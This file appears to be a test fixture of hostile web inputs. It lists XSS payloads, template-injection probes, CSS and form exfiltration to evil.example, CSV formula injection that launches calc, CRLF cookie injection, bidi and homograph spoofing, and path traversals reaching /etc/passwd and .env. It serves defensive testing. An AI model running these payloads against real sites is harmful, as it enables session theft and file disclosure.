"""What somebody writes who wants to do more than talk: each entry does something that is seen when a page lets it through.

It asks a host elsewhere, opens a dialog, or makes the page wider than the window.
"""

from __future__ import annotations

from typing import Final

HARM: Final = "alert(1)"
EVIL: Final = "https://evil.example/steal"

TEXTS: Final = (
    f"<script>{HARM}</script>",
    f"</title></textarea></noscript></template></style></script><script>{HARM}</script>",
    f"<img src=x onerror={HARM}>",
    f"\"'><svg/onload={HARM}><animate onbegin={HARM} attributeName=x dur=1s>",
    f"<svg><style><img src=x onerror={HARM}></style><use href='data:image/svg+xml,<svg onload={HARM}>'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HARM}>",
    f"' autofocus onfocus={HARM} x='",
    f'" onpointerenter={HARM} style=position:fixed;inset:0;z-index:99 x="',
    f"`${{{HARM}}}` {{{{ 7*7 }}}} {{% raw %}} ${{7*7}} #{{7*7}} <%= 7*7 %>",
    f"<iframe srcdoc='<script>{HARM}</script>'></iframe><object data='{EVIL}'></object><embed src='{EVIL}'>",
    f"<style>@import '{EVIL}'; *{{background:url({EVIL})}} input[value^=a]{{background:url({EVIL}?a)}}</style>",
    f"<link rel=stylesheet href='{EVIL}'><link rel=prefetch href='{EVIL}'><meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href='{EVIL}'><form action='{EVIL}'><input name=csrf><button>Sign in again</button></form>",
    f"<a href='javascript:{HARM}'>x</a> [x](javascript:{HARM}) <a href='{EVIL}' ping='{EVIL}' target=_blank>x</a>",
    "</td></tr></table></section></main></div></body></html><!--",
    "<dialog open id=keys>Your session is over</dialog><h1 id=main>Nothing fires</h1><div data-dialog=keys data-live=alert>",
    f"-->]]>*/ {HARM} //&lt;script&gt;{HARM}&lt;/script&gt;&#x3c;script>{HARM}&#x3c;/script>",
    f"<scr\x0bipt>{HARM}</scr\x0bipt> \\u003cscript\\u003e{HARM} \ufeff\u2028\u2029 %3Cscript%3E{HARM}",
    "\u202egnihton seriF :esiarf\u202c \u2066\u2067 invoice\u202efdp.exe \u061c\u200f",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘ " + "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 40,
    "https://" + "a" * 300 + ".example/" + "W" * 600,
    f"""=HYPERLINK("{EVIL}") +cmd|' /C calc'!A0 @SUM(1) -2+3""",
    'data: reset\n\nevent: alert\ndata: {"what":"alert.opened"}\n\nid: 0-9\n\n',
    "a\r\nSet-Cookie: tocsin=stolen\r\nLocation: " + EVIL,
)  # fmt: skip
"""Texts of posts, in which the word that rings is put by whoever posts them."""

LINKS: Final = (
    f"javascript:{HARM}", f"JaVaScRiPt:{HARM}", f" javascript:{HARM}", f"java\tscript:{HARM}", f"\x01javascript:{HARM}",
    f"data:text/html,<script>{HARM}</script>", f"vbscript:{HARM}", "file:///etc/passwd", "//evil.example/x", "ftp://evil.example/",
    "https://user:password@evil.example/", "https://good.example\\@evil.example/", f"https://evil.example/' onclick='{HARM}",
    f'https://evil.example/" autofocus onfocus="{HARM}', "https://evil.example/\u202egnp.exe",
    "https://еvil.example/", "/sign-out", "#main",
)  # fmt: skip
"""Addresses of posts."""

NAME: Final = f"Eve\u202e</option></select><img src=x onerror={HARM}>\"'{{% x %}}"
"""What people, rules, plans and receivers are called."""

TRAVERSALS: Final = (
    "/static/../../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fpasswd", "/static/%2e%2e/console.po",
    "/static/....//....//etc/passwd",
    "/static/console.css%00.js", "/static//etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/..%5c..%5cwindows",
    "/%c0%ae%c0%ae/etc/passwd",
    "/static/console.js/../../routes.py", "/.git/config", "/.env", "/monitor.yaml", "//evil.example/%2f..", "/\\evil.example",
)  # fmt: skip
"""Addresses that look for files, or lead elsewhere."""
